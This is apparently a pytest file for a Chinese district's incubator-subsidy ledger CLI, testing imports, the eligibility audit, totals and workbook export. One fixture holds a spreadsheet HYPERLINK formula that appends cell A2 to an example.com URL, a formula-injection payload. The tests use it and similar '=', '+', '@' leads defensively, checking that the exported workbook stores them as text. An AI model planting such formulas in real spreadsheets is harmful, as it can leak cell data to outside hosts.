"""Incubator subsidies: importing recognitions and payments, and the auditor's eligibility check.

The planted set below has eligible payments beside one ineligible payment for each rule
(and one with two reasons); the audit must find exactly those, citing the parameter in force
and pointing at the rows of the files they came from.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
from decimal import Decimal
from pathlib import Path

import pytest
from conftest import Ledger, codes, write_xlsx

D = dt.date
OP = codes(8, seed=51)  # operators of carriers
EN = codes(3, seed=52)  # enterprises rewarded

CARRIER_HEADER = ["载体名称", "运营主体统一社会信用代码", "载体类型", "级别", "认定日期", "认定文号"]
SUBSIDY_HEADER = ["拨付编号", "运营主体统一社会信用代码", "载体名称", "补助项目", "金额(元)", "拨付日期", "依据文号", "事项", "事项统一社会信用代码"]

C1, C2, C3, C4, C5, C6 = "两江星光孵化器", "北城众创空间", "江北嘴创新工场", "观音桥创客空间", "鎏嘉码头孵化器", "寸滩科创孵化器"
HYPERLINK = '=HYPERLINK("http://example.com/?x="&A2,"点击核实")'

CARRIERS = [
    [C1, OP[0], "科技企业孵化器", "市级", D(2021, 3, 1), "渝科发〔2021〕12号"],
    [C1, OP[0], "孵化器", "国家级", D(2022, 10, 15), "国科发区〔2022〕300号"],
    [C2, OP[1], "众创空间", "市级", "2021/6/1", "渝科发〔2021〕30号"],
    [C2, OP[1], "国家备案众创空间", "国家备案", "2023年2月1日", "国科火字〔2023〕8号"],
    [C3, OP[2], "科技企业孵化器", "国家级", D(2022, 3, 1), "国科发区〔2022〕50号"],
    [C4, OP[3], "众创空间", "市级", D(2019, 5, 1), "渝科发〔2019〕40号"],
    [C5, OP[4], "科技企业孵化器", "重庆市级", D(2021, 1, 10), "渝科发〔2021〕2号"],
    [C6, OP[5], "科技企业孵化器", "市级", D(2022, 5, 1), "渝科发〔2022〕20号"],
    [C6, OP[5], "科技企业孵化器", "国家级", D(2023, 6, 1), "国科发区〔2023〕90号"],
]

# (拨付编号, operator, carrier, 补助项目 as written, 金额, 拨付日期, 依据文号, 事项, 事项代码) -> rules expected
PAYMENTS = [
    # eligible
    (["BF-001", OP[0], C1, "能力建设补助", 200000, D(2021, 5, 10), "江北科发〔2021〕5号", None, None], set()),
    (["BF-002", OP[0], C1, "国家级配套补助", 200000, D(2022, 12, 1), None, None, None], set()),
    (["BF-003", OP[1], C2, "能力建设补贴", 100000, D(2021, 8, 1), None, None, None], set()),
    (["BF-004", OP[1], C2, "国家备案众创空间配套补助", 100000, D(2023, 3, 1), None, None, None], set()),
    (["BF-005", OP[0], C1, "绩效奖励-高新技术企业", 20000, D(2022, 1, 5), None, "重庆智联科技有限公司认定为高新技术企业", EN[0]], set()),
    (["BF-006", OP[1], C2, "入库企业奖励", 5000, D(2022, 2, 1), None, f"重庆渝芯电子有限公司({EN[1]})入库", None], set()),
    (["BF-007", OP[0], C1, "绩效奖励:市级技术创新中心", 50000, D(2022, 9, 1), None, HYPERLINK, None], set()),
    # ineligible, one reason each
    (["BF-101", OP[6], "未认定孵化基地", "绩效奖励-上市挂牌", 100000, D(2022, 4, 1), None, "重庆云帆软件有限公司挂牌", None], {"recognised_carrier"}),
    (["BF-102", OP[0], C1, "能力建设补助", 200000, D(2022, 1, 10), None, None, None], {"one_time_once"}),
    (["BF-103", OP[4], C5, "能力建设补助", 200000, D(2022, 3, 1), None, None, None], {"recognition_window"}),
    (["BF-104", OP[2], C3, "国家级配套补助", 200000, D(2022, 6, 1), None, None, None], {"recognition_level"}),
    (["BF-105", OP[5], C6, "国家级配套补助", 200000, D(2023, 3, 1), None, None, None], {"recognition_level"}),
    (["BF-106", OP[0], C1, "绩效奖励-市级重点实验室", 80000, D(2022, 7, 1), None, "重庆市智能传感重点实验室", None], {"amount_matches"}),
    (["BF-107", OP[1], C2, "绩效奖励-高新技术企业", 20000, D(2022, 8, 1), None, None, None], {"performance_evidence"}),
    (["BF-108", OP[1], C2, "高企奖励", 20000, D(2022, 8, 2), None, "智联科技高企认定", EN[0]], {"performance_once"}),
    (["BF-109", OP[3], C4, "能力建设补助", 100000, D(2020, 3, 1), None, None, None], {"recognition_window"}),
    (["BF-110", OP[5], C6, "绩效奖励-入库企业", 5000, D(2022, 3, 1), None, "重庆华创新材有限公司入库", None], {"recognised_carrier"}),
    (["BF-111", OP[1], C1, "绩效奖励-入库企业", 5000, D(2022, 6, 1), None, "重庆博远生物医药有限公司入库", None], {"recognised_carrier"}),
    (["BF-112", OP[3], C4, "绩效奖励-入库企业", 5000, D(2019, 6, 1), None, "重庆精工智能装备有限公司入库", None], {"policy_in_force"}),
    # two reasons at once
    (["BF-113", OP[0], C1, "国家级配套补助", 150000, D(2023, 1, 5), None, None, None], {"one_time_once", "amount_matches"}),
]
EXPECTED = {row[0]: rules for row, rules in PAYMENTS}
ROW_OF = {row[0]: i + 2 for i, (row, _) in enumerate(PAYMENTS)}


def sha(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def as_text(path):
    """Make cells that begin with "=" text, as a clerk's sheet holds them (openpyxl would write a formula)."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith("="):
                    c.data_type = "s"
    wb.save(path)
    return path


@pytest.fixture
def planted(ledger: Ledger, tmp_path):
    """The ledger with the planted recognitions and payments imported through the CLI."""
    carriers = write_xlsx(tmp_path / "孵化载体认定.xlsx", [["江北区孵化载体认定名录"], CARRIER_HEADER] + CARRIERS, sheet="认定名录")
    result = ledger.run("import", carriers)
    assert result.exit_code == 0, result.output
    payments = as_text(write_xlsx(tmp_path / "补助拨付.xlsx", [SUBSIDY_HEADER] + [row for row, _ in PAYMENTS], sheet="拨付明细"))
    result = ledger.run("import", payments)
    assert result.exit_code == 0, result.output
    return ledger, carriers, payments


def test_recognitions_and_payments_are_stored_in_canonical_form(planted):
    ledger, carriers, _ = planted
    rows = ledger.sql("SELECT carrier_name, carrier_type, level, recognized_on, source_row FROM carriers ORDER BY id")
    assert rows[3] == (C2, "众创空间", "国家级", D(2023, 2, 1), 6)  # 国家备案众创空间 counts as 国家级
    assert rows[1][1:3] == ("科技企业孵化器", "国家级")
    assert rows[6][2] == "市级"  # 重庆市级
    items = dict(ledger.sql("SELECT payment_no, programme || coalesce('-' || category, '') FROM subsidies"))
    assert items["BF-003"] == "能力建设补助"
    assert items["BF-004"] == "国家级配套补助"
    assert items["BF-006"] == "绩效奖励-入库企业"
    assert items["BF-007"] == "绩效奖励-市级技术创新中心"
    assert items["BF-108"] == "绩效奖励-高新技术企业"
    # the credit code inside a 事项 text is taken as the event's enterprise
    assert ledger.sql("SELECT matter_code FROM subsidies WHERE payment_no = 'BF-006'") == [(EN[1],)]
    assert ledger.sql("SELECT amount FROM subsidies WHERE payment_no = 'BF-113'") == [(Decimal("150000.00"),)]
    assert ledger.run("verify").exit_code == 0


def test_audit_finds_exactly_the_planted_ineligibilities(planted):
    ledger, _, _ = planted
    audit = ledger.json("audit", "subsidies")
    assert audit["payments"] == len(PAYMENTS) == 20
    assert audit["eligible"] == 7
    assert audit["ineligible"] == 13
    bad_total = sum(Decimal(row[4]) for row, rules in PAYMENTS if rules)
    assert audit["amount_ineligible"] == f"{bad_total:.2f}" == "1285000.00"
    found = {f["payment"]: {r["rule"] for r in f["reasons"]} for f in audit["findings"]}
    assert found == {no: rules for no, rules in EXPECTED.items() if rules}
    verdicts = {v["payment"]: v["verdict"] for v in audit["verdicts"]}
    assert verdicts == {no: ("ineligible" if rules else "eligible") for no, rules in EXPECTED.items()}


def test_amount_excess_is_what_was_paid_beyond_the_policy(planted):
    """amount_ineligible counts every payment with a finding whole; amount_excess only what the policy did not allow:
    an amount above the policy's figure is in excess by the difference, a payment not allowed at all by all of it."""
    ledger, _, _ = planted
    audit = ledger.json("audit", "subsidies")
    excess = {v["payment"]: v["excess"] for v in audit["verdicts"]}
    assert excess["BF-106"] == "30000.00"  # 80,000 paid, 50,000 due
    assert excess["BF-113"] == "150000.00"  # a repeat of the match (and short of its amount): not allowed at all
    assert excess["BF-101"] == "100000.00" and excess["BF-001"] == "0.00"
    assert audit["amount_ineligible"] == "1285000.00" and audit["amount_excess"] == "1235000.00"
    assert {f["payment"]: f["excess"] for f in audit["findings"]}["BF-106"] == "30000.00"
    text = ledger.run("audit", "subsidies").stdout.replace("\n", "")
    assert "不合规金额(有问题的拨付合计)1,285,000.00 元,其中超出政策金额 1,235,000.00 元" in text


def test_json_output_matches_its_schema(planted):
    from json_schemas import validate

    ledger, _, _ = planted
    validate("audit-subsidies", ledger.json("audit", "subsidies"))


def test_each_reason_cites_parameter_and_evidence(planted):
    ledger, carriers, payments = planted
    audit = ledger.json("audit", "subsidies")
    by_no = {f["payment"]: f for f in audit["findings"]}

    def reason(no, rule):
        return next(r for r in by_no[no]["reasons"] if r["rule"] == rule)

    r = reason("BF-102", "one_time_once")
    assert "BF-001" in r["detail"] and "2021-05-10" in r["detail"]
    assert r["parameter"] == "incubator.municipal_incubator_award=200000.00(2020-01-01起)"

    r = reason("BF-103", "recognition_window")
    assert "415 天" in r["detail"] and "365 天" in r["detail"]
    assert r["parameter"] == "incubator.recognition_window_days=365(2020-01-01起)"
    assert r["recognition"]["doc_no"] == "渝科发〔2021〕2号"
    assert r["recognition"]["row"] == 9 and r["recognition"]["sheet"] == "认定名录"
    assert r["recognition"]["file"] == "孵化载体认定.xlsx" and r["recognition"]["sha256"] == sha(carriers)

    r = reason("BF-109", "recognition_window")
    assert "2019-05-01" in r["detail"] and r["parameter"] == "incubator.recognised_on_or_after=2020-01-01(2020-01-01起)"

    r = reason("BF-104", "recognition_level")
    assert "市级" in r["detail"] and "没有市级认定记录" in r["detail"]
    r = reason("BF-105", "recognition_level")
    assert "早于国家级认定日 2023-06-01" in r["detail"] and r["recognition"]["level"] == "国家级"

    r = reason("BF-106", "amount_matches")
    assert "80,000.00元" in r["detail"] and "50,000.00元" in r["detail"] and "多30,000.00元" in r["detail"]
    assert r["parameter"] == "incubator.performance_awards.市级重点实验室=50000.00(2020-01-01起)"

    amount = reason("BF-113", "amount_matches")
    assert "200,000.00元" in amount["detail"]
    assert "incubator.national_match_ratio=1.0(2020-01-01起)" in amount["parameter"]
    assert "BF-002" in reason("BF-113", "one_time_once")["detail"]

    assert "BF-005" in reason("BF-108", "performance_once")["detail"]
    assert "两江星光孵化器" in reason("BF-108", "performance_once")["detail"]  # first paid to another carrier
    assert "事项" in reason("BF-107", "performance_evidence")["detail"]
    assert "没有认定记录" in reason("BF-101", "recognised_carrier")["detail"]
    assert "早于该载体最早的认定日 2022-05-01" in reason("BF-110", "recognised_carrier")["detail"]
    assert OP[0] in reason("BF-111", "recognised_carrier")["detail"]  # paid to the wrong operator
    assert "2019-06-01" in reason("BF-112", "policy_in_force")["detail"]

    for no, f in by_no.items():
        assert f["evidence"]["payment"] == {"file": "补助拨付.xlsx", "sheet": "拨付明细", "row": ROW_OF[no], "sha256": sha(payments)}
        assert all(r["detail"] and r["title"] for r in f["reasons"])

    eligible = {v["payment"]: v for v in audit["verdicts"] if v["verdict"] == "eligible"}
    assert eligible["BF-004"]["expected_amount"] == "100000.00"
    assert eligible["BF-004"]["parameters"] == [
        "incubator.municipal_maker_space_award=100000.00(2020-01-01起)",
        "incubator.national_match_ratio=1.0(2020-01-01起)",
    ]
    assert eligible["BF-004"]["evidence"]["recognition"]["doc_no"] == "国科火字〔2023〕8号"
    assert eligible["BF-001"]["evidence"]["recognition"]["row"] == 3


def test_totals_per_programme_and_per_carrier(planted):
    ledger, _, _ = planted
    totals = ledger.json("audit", "subsidies")["totals"]
    programmes = {t["name"]: t for t in totals["by_programme"]}
    assert list(programmes)[:2] == ["能力建设补助", "国家级配套补助"]
    assert programmes["能力建设补助"] == {
        "name": "能力建设补助", "payments": 5, "amount": "800000.00", "eligible": 2, "ineligible": 3, "amount_ineligible": "500000.00",
        "amount_excess": "500000.00",  # each not allowed at all
    }
    performance = programmes["绩效奖励-市级重点实验室"]  # BF-106: 80,000 paid where 50,000 was due
    assert (performance["amount_ineligible"], performance["amount_excess"]) == ("80000.00", "30000.00")
    assert programmes["国家级配套补助"]["amount_ineligible"] == "550000.00"
    assert programmes["绩效奖励-入库企业"]["payments"] == 4 and programmes["绩效奖励-入库企业"]["ineligible"] == 3
    carriers = {t["name"]: t for t in totals["by_carrier"]}
    assert carriers[C1]["payments"] == 8 and carriers[C1]["ineligible"] == 4
    assert carriers[C1]["amount_ineligible"] == "435000.00"
    assert carriers["未认定孵化基地"]["amount_ineligible"] == "100000.00"
    assert sum(Decimal(t["amount_ineligible"]) for t in totals["by_carrier"]) == Decimal("1285000.00")


def test_exit_codes_and_table(planted):
    ledger, _, _ = planted
    plain = ledger.run("audit", "subsidies")
    assert plain.exit_code == 0, plain.output
    assert "不合规" in plain.stdout and "BF-113" in plain.stdout and "按载体汇总" in plain.stdout
    assert "共 20 笔拨付:合规 7 笔,不合规 13 笔" in plain.stdout.replace("\n", "")
    strict = ledger.run("audit", "subsidies", "--fail-on-findings", "--json")
    assert strict.exit_code == 1
    assert json.loads(strict.stdout)["ineligible"] == 13


def test_fail_on_findings_passes_a_clean_ledger(ledger: Ledger, tmp_path):
    ledger.run("import", write_xlsx(tmp_path / "c.xlsx", [CARRIER_HEADER] + CARRIERS[:1]))
    ledger.run("import", write_xlsx(tmp_path / "s.xlsx", [SUBSIDY_HEADER] + [PAYMENTS[0][0]]))
    result = ledger.run("audit", "subsidies", "--fail-on-findings", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["findings"] == []


def test_audit_of_an_empty_ledger(ledger: Ledger):
    audit = ledger.json("audit", "subsidies")
    assert (audit["payments"], audit["ineligible"], audit["amount_ineligible"], audit["findings"]) == (0, 0, "0.00", [])


def test_audit_is_read_only(planted):
    ledger, _, _ = planted
    before = sha(ledger.path)
    assert ledger.run("audit", "subsidies").exit_code == 0
    assert sha(ledger.path) == before


def test_auditor_workbook(planted, tmp_path):
    from openpyxl import load_workbook

    ledger, _, payments = planted
    out = tmp_path / "底稿" / "补助审计.xlsx"
    result = ledger.run("audit", "subsidies", "--xlsx", out)
    assert result.exit_code == 0, result.output
    wb = load_workbook(out)
    assert wb.sheetnames == ["审计结论", "按补助项目汇总", "按载体名称汇总", "说明"]
    ws = wb["审计结论"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["拨付编号", "载体名称", "运营主体统一社会信用代码"]
    col = {name: i for i, name in enumerate(header)}
    rows = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert len(rows) == 20
    assert {no: r[col["结论"]] for no, r in rows.items()} == {no: ("不合规" if rules else "合规") for no, rules in EXPECTED.items()}
    assert set(rows["BF-113"][col["不合规规则"]].split("\n")) == {"one_time_once", "amount_matches"}
    assert "【一次性补助不重复拨付】" in rows["BF-113"][col["不合规原因"]]
    assert rows["BF-103"][col["拨付记录行"]] == ROW_OF["BF-103"]
    assert rows["BF-103"][col["拨付记录文件SHA256"]] == sha(payments)
    assert rows["BF-103"][col["认定行"]] == 9
    assert rows["BF-001"][col["金额(元)"]] == 200000
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width > 10
    # text that would run as a formula is stored as text
    cell = next(c for c in ws[rows_index(ws, "BF-007")] if c.value == HYPERLINK)
    assert cell.data_type == "s"
    totals = {r[0]: r for r in wb["按补助项目汇总"].iter_rows(min_row=2, values_only=True)}
    assert totals["合计"][1] == 20 and totals["合计"][5] == 1285000 and totals["合计"][6] == 1235000
    assert rows["BF-106"][col["超出政策金额(元)"]] == 30000
    notes = dict(r for r in wb["说明"].iter_rows(min_row=2, values_only=True))
    assert notes["超出政策金额(元)(超过政策允许的部分)"] == 1235000


def rows_index(ws, payment_no: str) -> int:
    return next(r[0].row for r in ws.iter_rows(min_row=2) if r[0].value == payment_no)


def test_the_policy_in_force_on_the_payment_date_judges_it(ledger: Ledger, tmp_path):
    policy = tmp_path / "江北区.toml"
    policy.write_text(
        """
name = "江北区(测试)"
[[incubator]]
effective_from = 2020-01-01
source = "旧标准"
municipal_incubator_award = "200000.00"
municipal_maker_space_award = "100000.00"
national_match_ratio = "1.0"
recognition_window_days = 365
recognised_on_or_after = 2020-01-01
performance_awards = { "高新技术企业" = "20000.00" }
[[incubator]]
effective_from = 2023-01-01
source = "新标准"
municipal_incubator_award = "250000.00"
municipal_maker_space_award = "120000.00"
national_match_ratio = "0.5"
recognition_window_days = 730
recognised_on_or_after = 2020-01-01
performance_awards = { "高新技术企业" = "30000.00" }
""",
        encoding="utf-8",
    )
    carriers = [
        ["甲孵化器", OP[0], "科技企业孵化器", "市级", D(2022, 6, 1), "渝科发〔2022〕1号"],
        ["乙孵化器", OP[1], "科技企业孵化器", "市级", D(2022, 6, 1), "渝科发〔2022〕1号"],
        ["乙孵化器", OP[1], "科技企业孵化器", "国家级", D(2023, 3, 1), "国科发区〔2023〕1号"],
    ]
    assert ledger.run("import", write_xlsx(tmp_path / "c.xlsx", [CARRIER_HEADER] + carriers)).exit_code == 0
    rows = [
        ["P-1", OP[0], "甲孵化器", "能力建设补助", 200000, D(2022, 12, 30), None, None, None],  # old: 20万 ok
        ["P-2", OP[1], "乙孵化器", "能力建设补助", 200000, D(2023, 1, 3), None, None, None],  # new: 25万
        ["P-3", OP[1], "乙孵化器", "国家级配套补助", 125000, D(2023, 4, 1), None, None, None],  # 25万 × 0.5
        ["P-4", OP[0], "甲孵化器", "绩效奖励-高新技术企业", 30000, D(2023, 5, 1), None, "某企业", EN[2]],
    ]
    assert ledger.run("import", write_xlsx(tmp_path / "s.xlsx", [SUBSIDY_HEADER] + rows)).exit_code == 0
    audit = ledger.json("audit", "subsidies", "--policy", policy)
    assert audit["policy"]["name"] == "江北区(测试)"
    assert [f["payment"] for f in audit["findings"]] == ["P-2"]
    (reason,) = audit["findings"][0]["reasons"]
    assert reason["rule"] == "amount_matches"
    assert reason["parameter"] == "incubator.municipal_incubator_award=250000.00(2023-01-01起)"
    # the shipped default judges the same payments by its own figures
    default = ledger.json("audit", "subsidies")
    assert {f["payment"] for f in default["findings"]} == {"P-3", "P-4"}


def test_unknown_vocabulary_refuses_the_file_by_cell(ledger: Ledger, tmp_path):
    carriers = [
        ["丙孵化器", OP[0], "科技企业孵化器", "区级", D(2022, 6, 1), "江北科发〔2022〕1号"],
        ["丁空间", OP[1], "星创天地", "市级", D(2022, 6, 1), "渝科发〔2022〕2号"],
    ]
    result = ledger.run("import", write_xlsx(tmp_path / "c.xlsx", [CARRIER_HEADER] + carriers), "--json")
    assert result.exit_code == 1
    problems = [(p["code"], p["cell"], p["value"]) for p in json.loads(result.stdout)["problems"]]
    assert problems == [("bad_carrier_level", "D2", "区级"), ("bad_carrier_type", "C3", "星创天地")]
    assert ledger.sql("SELECT count(*) FROM carriers") == [(0,)]

    rows = [
        ["Q-1", OP[0], "丙孵化器", "装修补贴", 1000, D(2022, 7, 1), None, None, None],
        ["Q-2", OP[0], "丙孵化器", "绩效奖励", 1000, D(2022, 7, 1), None, "某事", None],
    ]
    result = ledger.run("import", write_xlsx(tmp_path / "s.xlsx", [SUBSIDY_HEADER] + rows), "--json")
    assert result.exit_code == 1
    problems = [(p["code"], p["cell"], p["value"]) for p in json.loads(result.stdout)["problems"] if p["severity"] == "error"]
    assert problems == [("bad_subsidy_item", "D2", "装修补贴"), ("bad_award_category", "D3", "绩效奖励")]
    item = next(p for p in json.loads(result.stdout)["problems"] if p["code"] == "bad_subsidy_item")
    assert "能力建设补助" in item["hint"] and "高新技术企业" in item["hint"]
    assert ledger.sql("SELECT count(*) FROM subsidies") == [(0,)]


def test_an_award_category_the_policy_does_not_list_is_named_with_the_listed_ones(ledger: Ledger, tmp_path, monkeypatch):
    """绩效奖励-专精特新 names its category: the problem is that the policy does not list it, not that it is missing."""
    ledger.run("import", write_xlsx(tmp_path / "c.xlsx", [CARRIER_HEADER] + CARRIERS[:1]))
    carrier = CARRIERS[0]
    rows = [
        ["R-1", carrier[1], carrier[0], "绩效奖励-专精特新", 20000, D(2023, 5, 1), None, "某企业获评专精特新", EN[0]],
        ["R-2", carrier[1], carrier[0], "专精特新奖励", 20000, D(2023, 5, 2), None, "某企业获评专精特新", EN[1]],
        ["R-3", carrier[1], carrier[0], "绩效奖励", 20000, D(2023, 5, 3), None, "某事", EN[2]],
    ]
    path = write_xlsx(tmp_path / "s.xlsx", [SUBSIDY_HEADER] + rows)
    result = ledger.run("import", path, "--json")
    assert result.exit_code == 1
    found = {p["cell"]: p for p in json.loads(result.stdout)["problems"] if p["severity"] == "error"}
    assert [(c, p["code"]) for c, p in found.items()] == [("D2", "unlisted_award_category"), ("D3", "unlisted_award_category"), ("D4", "bad_award_category")]
    assert found["D2"]["message"] == "补助项目「绩效奖励-专精特新」的奖励类别「专精特新」不是所用政策列出的绩效奖励类别"
    assert "「专精特新」" in found["D3"]["message"]
    assert "没有写明" not in found["D2"]["message"] + found["D3"]["message"]
    hint = found["D2"]["hint"]
    assert "上市挂牌、高新技术企业、市级重点实验室、市级技术创新中心、入库企业" in hint and "默认政策" in hint and "performance_awards" in hint
    assert ledger.sql("SELECT count(*) FROM subsidies") == [(0,)]

    # a district whose policy lists the category imports the same payment
    policy = tmp_path / "本区.toml"
    default = (Path(__file__).resolve().parent.parent / "ledger" / "policies" / "default.toml").read_text(encoding="utf-8")
    policy.write_text(default.replace('"入库企业" = "5000.00" }', '"入库企业" = "5000.00", "专精特新" = "20000.00" }'), encoding="utf-8")
    monkeypatch.setenv("LEDGER_POLICY", str(policy))
    result = ledger.run("import", write_xlsx(tmp_path / "s2.xlsx", [SUBSIDY_HEADER] + rows[:1]))
    assert result.exit_code == 0, result.output
    assert ledger.sql("SELECT item, programme, category FROM subsidies") == [("绩效奖励-专精特新", "绩效奖励", "专精特新")]


def test_payment_to_unrecognised_carrier_imports_with_a_warning(ledger: Ledger, tmp_path):
    rows = [["R-1", OP[0], "无名孵化器", "能力建设补助", 200000, D(2022, 7, 1), None, None, None]]
    result = ledger.run("import", write_xlsx(tmp_path / "s.xlsx", [SUBSIDY_HEADER] + rows), "--json")
    assert result.exit_code == 0, result.output
    problems = json.loads(result.stdout)["problems"]
    assert [(p["code"], p["severity"], p["cell"]) for p in problems] == [("unknown_carrier", "warning", "C2")]
    audit = ledger.json("audit", "subsidies")
    assert [r["rule"] for r in audit["findings"][0]["reasons"]] == ["recognised_carrier"]


def test_reimported_recognition_is_not_doubled(ledger: Ledger, tmp_path):
    first = write_xlsx(tmp_path / "c1.xlsx", [CARRIER_HEADER] + CARRIERS[:2])
    again = write_xlsx(tmp_path / "c2.xlsx", [CARRIER_HEADER] + CARRIERS[:3], sheet="重报")
    assert ledger.run("import", first).exit_code == 0
    result = ledger.run("import", again, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["sheets"][0]["added"] == 1
    assert ledger.sql("SELECT count(*) FROM carriers") == [(3,)]


def test_workbook_keeps_formula_like_text_as_text(ledger: Ledger, tmp_path):
    from openpyxl import load_workbook

    ledger.run("import", write_xlsx(tmp_path / "c.xlsx", [CARRIER_HEADER] + CARRIERS[:1]))
    leads = ["-重庆甲公司入库", "+重庆乙公司入库", "@重庆丙公司入库", '=1+2']
    rows = [[f"T-{i}", OP[0], C1, "绩效奖励-入库企业", 5000, D(2022, 1, 1), None, text, None] for i, text in enumerate(leads)]
    assert ledger.run("import", as_text(write_xlsx(tmp_path / "s.xlsx", [SUBSIDY_HEADER] + rows))).exit_code == 0
    out = tmp_path / "a.xlsx"
    assert ledger.run("audit", "subsidies", "--xlsx", out).exit_code == 0
    ws = load_workbook(out)["审计结论"]
    matter = [c.value for c in ws[1]].index("事项")
    cells = {r[matter].value: r[matter] for r in ws.iter_rows(min_row=2)}
    assert set(cells) == set(leads)
    for cell in cells.values():
        assert cell.data_type == "s" and cell.quotePrefix


def test_a_payment_before_the_recognition_does_not_use_up_the_award(ledger: Ledger, tmp_path):
    """Paid too early, then again once recognised: the early one is not allowed, the later one is the award."""
    carriers = [
        ["早付孵化器", OP[6], "科技企业孵化器", "市级", D(2021, 3, 1), "渝科发〔2021〕77号"],
        ["早付孵化器", OP[6], "科技企业孵化器", "国家级", D(2022, 3, 1), "国科发区〔2022〕77号"],
    ]
    assert ledger.run("import", write_xlsx(tmp_path / "c.xlsx", [CARRIER_HEADER] + carriers)).exit_code == 0
    rows = [
        ["E-1", OP[6], "早付孵化器", "能力建设补助", 200000, D(2021, 1, 5), None, None, None],  # before 市级
        ["E-2", OP[6], "早付孵化器", "能力建设补助", 200000, D(2021, 4, 1), None, None, None],  # the award
        ["E-3", OP[6], "早付孵化器", "能力建设补助", 200000, D(2021, 5, 1), None, None, None],  # a repeat of E-2
        ["E-4", OP[6], "早付孵化器", "国家级配套补助", 200000, D(2022, 1, 10), None, None, None],  # before 国家级
        ["E-5", OP[6], "早付孵化器", "国家级配套补助", 200000, D(2022, 4, 1), None, None, None],  # the match
    ]
    assert ledger.run("import", write_xlsx(tmp_path / "s.xlsx", [SUBSIDY_HEADER] + rows)).exit_code == 0
    audit = ledger.json("audit", "subsidies")
    found = {f["payment"]: {r["rule"] for r in f["reasons"]} for f in audit["findings"]}
    assert found == {"E-1": {"recognised_carrier", "recognition_level"}, "E-3": {"one_time_once"}, "E-4": {"recognition_level"}}
    repeat = next(r for f in audit["findings"] if f["payment"] == "E-3" for r in f["reasons"])
    assert "2021-04-01" in repeat["detail"] and "E-2" in repeat["detail"]  # names the award it repeats


@pytest.mark.parametrize(
    "written, stored",
    [
        ("认定奖励", ("能力建设补助", None)),  # the award for being recognised, not a performance award
        ("市级孵化器认定补助", ("能力建设补助", None)),
        ("高企认定奖励", ("绩效奖励", "高新技术企业")),  # an enterprise's 高企 recognition: performance
        ("专精特新认定奖励", ("绩效奖励", None)),  # an enterprise's recognition of a category no policy lists
        ("新认定市级众创空间一次性认定补助", ("能力建设补助", None)),
        ("国家备案众创空间配套补助", ("国家级配套补助", None)),
        ("入库企业奖励", ("绩效奖励", "入库企业")),
        ("专精特新奖励", ("绩效奖励", None)),  # a performance award of a category no policy lists
        ("场地租金", (None, None)),
    ],
)
def test_subsidy_items_are_classified_as_written(written, stored):
    from ledger.programs.incubator import CATEGORY_WORDS, classify_item

    assert classify_item(written, list(CATEGORY_WORDS)) == stored
